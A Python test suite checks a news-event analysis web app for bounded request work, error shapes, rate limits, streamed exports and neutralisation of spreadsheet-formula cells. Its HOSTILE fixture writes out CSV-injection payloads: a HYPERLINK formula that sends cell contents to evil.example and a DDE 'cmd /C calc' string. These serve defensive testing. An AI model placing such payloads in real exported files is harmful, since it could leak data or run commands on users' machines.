"""Every request's work is bounded (issue 17): the attacker's requests against the real app
on a real SQLite store give a 4xx in the one error shape (the error page for HTML), never a
500; a day series over two millennia is coarsened and cut to well under 1 MB; exports are
streamed; anonymous reads are rate-limited per address; CSV/TSV cells that start like a
spreadsheet formula are neutralised."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402
from web_server import fill  # noqa: E402

from communique.analysis.exports import PLOVER_COLUMNS, records_of, render, stream  # noqa: E402
from communique.analysis.series import bound_span, dyad_series, fit_period, latest_periods, period_count  # noqa: E402
from communique.analysis.spreadsheet import safe_cell  # noqa: E402
from communique.analysis.stored import stored_dyad_series  # noqa: E402
from communique.analysis.synthetic import make_analysis  # noqa: E402
from communique.config import Settings  # noqa: E402
from communique.errors import ConfigError  # noqa: E402
from communique.store import Store  # noqa: E402
from communique.web import create_app  # noqa: E402
from communique.web.security import read_cost  # noqa: E402

HOSTILE = {"title": '=HYPERLINK("http://evil.example/?"&A1,"click")', "source": "@SUM(1+1)*cmd|' /C calc'!A0",
           "url": "+http://evil.example", "story_id": "-2+3"}


def _hostile_analysis():
    a = make_analysis(dt.date(2022, 3, 1), [("RUS", "ASSAULT", "UKR"), ("USA", "AID", "UKR")], salt="hostile")
    return dataclasses.replace(a, article=dataclasses.replace(a.article, **HOSTILE))


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("bounds") / "bounds.db")
    fill(path, 60)
    s = Store(path)
    try:
        s.add(_hostile_analysis())
    finally:
        s.close()
    return path


@pytest.fixture(scope="module")
def client(db):
    with TestClient(create_app(db, Settings(rate_limit=0)), raise_server_exceptions=False) as c:
        yield c


def shape(r, status: int) -> dict:
    assert r.status_code == status, (r.status_code, r.text[:300])
    body = r.json()
    assert set(body) == {"error", "status"} and body["status"] == status
    assert set(body["error"]) == {"code", "type", "message", "details"}
    assert body["error"]["code"] == f"W{status}" and body["error"]["message"]
    return body


HUGE = "9" * 30
CURSORS = ["!!!", "bnVsbA", "W1tdLFtdXQ", "WzEsMl0", "WyJhIiwiYiIsImMiXQ", "e30",
           # ["2020", "a", 99999999999999999999999] and ["2020", "a", -1]: integers out of range
           "WyIyMDIwIiwiYSIsOTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5XQ", "WyIyMDIwIiwiYSIsLTFd",
           "W" * 2000]
BAD_REQUESTS = [
    # dates past the calendar, not dates, upside down
    ("/api/dyads/RUS/UKR?until=9999-12-31", 422),
    ("/api/dyads/RUS/UKR?since=9999-12-31", 422),
    ("/api/dyads/RUS/UKR?since=2022-02-01&until=2021-01-01", 422),
    ("/api/dyads/RUS/UKR?since=20220101", 422),
    ("/api/alerts?since=0001-01-01&until=9999-12-31", 422),
    ("/api/alerts?until=9999-12-31", 422),
    ("/api/alerts?keys=everything", 422),
    ("/api/network?since=9999-12-31", 422),
    ("/api/network?quad_class=" + HUGE, 422),
    ("/api/network?keys=x", 422),
    ("/api/map?until=9999-12-31", 422),
    ("/api/export?until=9999-12-31", 422),
    ("/api/export?since=yesterday", 422),
    ("/api/export?format=xlsx", 422),
    ("/api/events?since=0000-01-01", 422),
    ("/api/quotes?until=99999-01-01", 422),
    ("/api/articles?since=" + "1" * 5000, 422),
    # periods
    ("/api/dyads/RUS/UKR?period=year", 422),
    ("/api/dyads/RUS/UKR?period=", 422),
    ("/api/dyads/RUS/UKR?evidence=-1", 422),
    ("/api/dyads/RUS/UKR?evidence=" + HUGE, 422),
    # page sizes
    *[(f"/api/{r}?limit={n}", 422) for r in ("events", "quotes", "articles", "actors")
      for n in ("-1", "0", "501", HUGE, "-" + HUGE, "ten")],
    # ids with huge numbers, malformed ids
    ("/api/records/protest:q" + "9" * 23, 404),
    ("/api/records/protest:e" + "9" * 23, 404),
    ("/api/records/protest:e2147483648", 404),
    ("/api/records/x:e-1", 422),
    ("/api/records/" + "x" * 3000, 422),
    ("/api/articles/" + "9" * 40, 404),
    ("/api/actors/" + "9" * 40, 404),
    ("/api/actors?page=" + HUGE, 422),
    ("/api/actors?page=0", 422),
    # search and filter texts
    ("/api/quotes?q=" + "war+" * 200, 422),
    ("/api/articles?q=" + "x" * 501, 422),
    ("/api/quotes?speaker=" + "%25" * 501, 422),
    ("/api/events?actor=" + "y" * 501, 422),
    # cursors
    *[(f"/api/{r}?cursor={c}", 422) for r in ("events", "quotes", "articles") for c in CURSORS],
]


@pytest.mark.parametrize("path,status", BAD_REQUESTS)
def test_web_bounds_bad_parameters_are_4xx_in_the_error_shape(client, path, status):
    shape(client.get(path), status)


@pytest.mark.parametrize("path", ["/dyads/RUS/UKR?until=9999-12-31", "/dyads/RUS/UKR?period=year",
                                  "/events?cursor=WzEsMl0", "/network?quad_class=" + HUGE,
                                  "/alerts?keys=x", "/map?since=2022-13-01", "/events?quad_class=9"])
def test_web_bounds_pages_show_the_error_page(client, path):
    r = client.get(path, headers={"accept": "text/html"})
    assert r.status_code == 422 and "text/html" in r.headers["content-type"]
    assert "W422" in r.text


@pytest.mark.parametrize("path", ["/api/dyads/RUS/UKR?period=day&since=0001-01-01&until=2100-12-30",
                                  "/api/dyads/RUS/UKR?period=week&since=0001-01-01&until=9998-12-31",
                                  "/api/dyads/RUS/UKR?period=month&since=0001-01-01&until=9998-12-31",
                                  "/dyads/RUS/UKR?period=day&since=0001-01-01&until=2100-12-30"])
def test_web_bounds_long_series_is_coarsened_and_cut_under_1mb(client, path):
    r = client.get(path, headers={"accept": "application/json"})
    assert r.status_code == 200
    assert len(r.content) < 1_000_000
    if not path.startswith("/api"):
        return
    series = r.json()["series"]
    assert series["period"] == "month" and len(series["points"]) == series["max_points"] == 2000
    assert series["coarsened_from"] == (None if "period=month" in path else path.split("period=")[1][:4].strip("&"))
    assert series["earlier_until"] and "max_series_points" in series["notice"]
    assert series["points"][-1]["label"] == path.split("until=")[1][:7]
    # the periods left out are the next request
    earlier = client.get(path.split("&until=")[0] + "&until=" + series["earlier_until"])
    assert earlier.status_code == 200
    assert earlier.json()["series"]["points"][-1]["start"] < series["points"][0]["start"]


@pytest.mark.parametrize("since,until,period,max_points,want_period,want_points,cut", [
    ("2021-12-06", "2022-06-03", "day", 2000, "day", 180, False),
    ("2021-12-06", "2022-06-03", "day", 100, "week", 26, False),
    ("2021-12-06", "2022-06-03", "day", 20, "month", 7, False),
    ("2021-12-06", "2022-06-03", "day", 10, "month", 7, False),
    ("2000-01-01", "2022-06-03", "week", 100, "month", 100, True),
])
def test_web_bounds_series_limit_setting(db, since, until, period, max_points, want_period, want_points, cut):
    settings = Settings(rate_limit=0, max_series_points=max(max_points, 10))
    with TestClient(create_app(db, settings)) as c:
        d = c.get(f"/api/dyads/RUS/UKR?period={period}&since={since}&until={until}").json()["series"]
    assert d["period"] == want_period and len(d["points"]) == min(want_points, settings.max_series_points)
    assert d["coarsened_from"] == (None if want_period == period else period)
    assert bool(d["earlier_until"]) is cut and (d["notice"] is None) is (want_period == period and not cut)


@pytest.mark.parametrize("first,last,period,n", [
    ("2022-01-01", "2022-01-01", "day", 1), ("2022-01-01", "2022-12-31", "day", 365),
    ("2022-01-03", "2022-01-09", "week", 1), ("2022-01-02", "2022-01-03", "week", 2),
    ("2021-12-31", "2022-01-01", "month", 2), ("0001-01-01", "9998-12-31", "month", 9998 * 12),
    ("2022-02-01", "2022-01-01", "month", 0),
])
def test_web_bounds_period_count(first, last, period, n):
    assert period_count(dt.date.fromisoformat(first), dt.date.fromisoformat(last), period) == n


@pytest.mark.parametrize("last,period,n,want", [
    ("2022-03-15", "month", 3, "2022-01-01"), ("2022-01-15", "month", 13, "2021-01-01"),
    ("2022-03-16", "week", 2, "2022-03-07"), ("2022-03-16", "day", 1, "2022-03-16"),
])
def test_web_bounds_latest_periods(last, period, n, want):
    start = latest_periods(dt.date.fromisoformat(last), period, n)
    assert start.isoformat() == want
    assert period_count(start, dt.date.fromisoformat(last), period) == n


@pytest.mark.parametrize("days,max_points,want", [(30, 31, ("day", None)), (300, 100, ("week", None)),
                                                   (4000, 100, ("month", dt.date(2014, 1, 1)))])
def test_web_bounds_bound_span(days, max_points, want):
    last = dt.date(2022, 4, 30)
    assert bound_span(last - dt.timedelta(days=days), last, "day", max_points) == want
    assert fit_period(last - dt.timedelta(days=days), last, "day", max_points) == want[0]


@pytest.mark.parametrize("case", [dict(period="day", max_points=50), dict(period="day", max_points=12),
                                  dict(period="week", max_points=10, start=dt.date(2019, 1, 1),
                                       end=dt.date(2022, 12, 31)),
                                  dict(period="day", max_points=None)])
def test_web_bounds_stored_series_matches_in_memory_under_the_limit(db, case):
    s = Store(db)
    try:
        got = stored_dyad_series(s, "RUS", "UKR", **case).to_dict()
        want = dyad_series(s.repo.dyad_facts("RUS", "UKR"), "RUS", "UKR", **case).to_dict()
    finally:
        s.close()
    assert got["points"] and got == want
    if case["max_points"]:
        assert len(got["points"]) <= case["max_points"]


@pytest.mark.parametrize("case", [dict(period="day", max_points=12),
                                  dict(period="day", max_points=40, start=dt.date(1990, 1, 1),
                                       end=dt.date(2022, 12, 31))])
def test_web_bounds_series_bounded_on_both_backends(store, case):
    from communique.analysis.synthetic import synthetic_analyses

    store.add_many(synthetic_analyses(30, events_per_article=5, seed=5, days=180, start=dt.date(2021, 12, 6)))
    got = stored_dyad_series(store, "RUS", None, directed=False, **case)
    want = dyad_series(store.dyad_facts("RUS", None, directed=False), "RUS", None, directed=False, **case)
    assert got.to_dict() == want.to_dict()
    assert got.period == "month" and got.coarsened_from == "day" and 0 < len(got.points) <= case["max_points"]
    assert (got.earlier_until is not None) is ("start" in case)


def test_web_bounds_attacker_requests_on_postgresql(pg_url):
    from communique.analysis.synthetic import synthetic_analyses
    from communique.store import open_store

    s = open_store(pg_url)
    try:
        s.add_many(synthetic_analyses(20, events_per_article=5, seed=5, days=180, start=dt.date(2021, 12, 6)))
    finally:
        s.close()
    with TestClient(create_app(pg_url, Settings(rate_limit=0)), raise_server_exceptions=False) as c:
        r = c.get("/api/dyads/RUS/UKR?period=day&since=0001-01-01&until=2100-12-30")
        assert r.status_code == 200 and len(r.content) < 1_000_000
        assert r.json()["series"]["coarsened_from"] == "day"
        for path, status in BAD_REQUESTS[:8] + [("/api/records/protest:q" + "9" * 23, 404),
                                                 ("/api/events?cursor=" + CURSORS[6], 422),
                                                 ("/api/articles?cursor=" + CURSORS[2], 422)]:
            shape(c.get(path), status)


# --- anonymous rate limit ----------------------------------------------------------------------


def test_web_bounds_anonymous_reads_are_rate_limited(db):
    settings = Settings(api_key="k", rate_limit=1000, rate_burst=1000, anonymous_rate_limit=0.01,
                        anonymous_rate_burst=10, heavy_read_cost=4)
    with TestClient(create_app(db, settings)) as c:
        assert [c.get("/api/quotes").status_code for _ in range(6)] == [200] * 6
        assert [c.get("/api/dyads/RUS/UKR").status_code for _ in range(2)] == [200, 429]
        r = c.get("/api/quotes")
        assert [c.get("/api/articles").status_code for _ in range(3)] == [429] * 3
        body = shape(c.get("/api/events"), 429)
        assert "anonymous_rate_limit" in body["error"]["message"]
        assert int(r.headers["retry-after"]) >= 1
        assert c.get("/static/style.css").status_code == 200  # static files cost nothing
        # a client with a key is not held by the anonymous bucket
        assert [c.get("/api/dyads/RUS/UKR", headers={"X-API-Key": "k"}).status_code for _ in range(5)] == [200] * 5


@pytest.mark.parametrize("path,cost", [("/static/style.css", 0), ("/api/events", 1), ("/articles", 1),
                                       ("/api/records/a:e1", 1), ("/", 7), ("/api/stats", 7),
                                       ("/api/dyads/RUS/UKR", 7), ("/dyads/RUS/UKR", 7), ("/api/export", 7),
                                       ("/api/charts/quads", 7), ("/alerts", 7), ("/map", 7)])
def test_web_bounds_read_cost(path, cost):
    assert read_cost(path, Settings(heavy_read_cost=7)) == cost


def test_web_bounds_rate_limit_zero_turns_read_limits_off(db):
    settings = Settings(rate_limit=0, anonymous_rate_limit=0.01, anonymous_rate_burst=5, heavy_read_cost=5)
    with TestClient(create_app(db, settings)) as c:
        assert {c.get("/api/alerts").status_code for _ in range(4)} == {200}


@pytest.mark.parametrize("values", [dict(heavy_read_cost=0), dict(anonymous_rate_burst=3, heavy_read_cost=5),
                                    dict(anonymous_rate_limit=-1), dict(max_series_points=2)])
def test_web_bounds_limit_settings_are_checked(values):
    with pytest.raises(ConfigError):
        Settings.load(values, env={})


# --- exports: streamed, formula cells neutralised ------------------------------------------------


@pytest.mark.parametrize("value,want", [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Kyiv", "Kyiv"), ("", ""), (" =1", " =1"),
    (-3.5, -3.5), (-10, -10), (None, None), (0.0, 0.0),
])
def test_web_bounds_safe_cell(value, want):
    assert safe_cell(value) == want


def _cells(data: bytes, fmt: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8")), delimiter="\t" if fmt == "tsv" else ","))


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_web_bounds_export_neutralises_formula_cells(client, fmt):
    r = client.get(f"/api/export?format={fmt}&since=2022-03-01&until=2022-03-01")
    assert r.status_code == 200 and "content-length" not in r.headers  # streamed
    rows = [row for row in _cells(r.content, fmt) if row["title"].startswith("'=")]
    assert len(rows) == 2
    for row in rows:
        assert row["title"] == "'" + HOSTILE["title"] and row["source"] == "'" + HOSTILE["source"]
        assert row["url"] == "'" + HOSTILE["url"]
        assert row["story_id"] == "'" + HOSTILE["story_id"]
    goldstein = sorted(float(row["goldstein"]) for row in rows)  # numbers stay numbers
    assert goldstein[0] < 0 < goldstein[1]
    gdelt = _cells(client.get(f"/api/export?table=gdelt&format={fmt}&since=2022-03-01&until=2022-03-01").content, fmt)
    assert gdelt and all(not row["GoldsteinScale"].startswith("'") for row in gdelt)
    assert all(not v.startswith(("=", "+", "-", "@")) for row in gdelt for k, v in row.items()
               if k not in ("GoldsteinScale", "FractionDate", "ActionGeo_Lat", "ActionGeo_Long"))


@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl", "parquet"])
def test_web_bounds_export_stream_in_chunks_equals_render(fmt):
    records = records_of([make_analysis(dt.date(2022, 1, 1) + dt.timedelta(days=i), [("RUS", "ASSAULT", "UKR")],
                                        salt=str(i)) for i in range(25)] + [_hostile_analysis()])
    chunks = list(stream(records, "plover", fmt, chunk_rows=10))
    assert len(chunks) >= 3
    whole = render(records, "plover", fmt)
    if fmt == "parquet":
        import pyarrow.parquet as pq

        tbl = pq.read_table(io.BytesIO(b"".join(chunks)))
        assert tbl.num_rows == len(records) and tbl.column_names == list(PLOVER_COLUMNS)
        assert tbl.column("title").to_pylist()[-1] == HOSTILE["title"]  # parquet keeps text as it is
    else:
        assert b"".join(chunks) == whole
    if fmt == "jsonl":
        assert b'"title": "=HYPERLINK(' in whole  # JSON is data, not a sheet: left as it is


def test_web_bounds_export_of_nothing(client):
    r = client.get("/api/export?format=parquet&since=1990-01-01&until=1990-01-02")
    assert r.status_code == 200
    import pyarrow.parquet as pq

    assert pq.read_table(io.BytesIO(r.content)).num_rows == 0
    assert client.get("/api/export?since=1990-01-01&until=1990-01-02").text.strip() == ",".join(PLOVER_COLUMNS)


def test_web_bounds_gold_metadata_tsv_neutralises_formula_cells(tmp_path):
    from communique.review import make_confirm, record_keys
    from communique.review.gold import export_gold

    a = _hostile_analysis()
    s = Store(str(tmp_path / "gold.db"))
    try:
        s.add(a)
        s.add_reviews([make_confirm(a, record_keys(a, "event")[0], "ann", created_at="2024-01-01T00:00:01+00:00")])
        export_gold([s.reviewed(a.id)], tmp_path / "gold")
    finally:
        s.close()
    rows = _cells((tmp_path / "gold" / "metadata.tsv").read_bytes(), "tsv")
    assert len(rows) == 1
    assert rows[0]["title"] == "'" + HOSTILE["title"] and rows[0]["publisher"] == "'" + HOSTILE["source"]
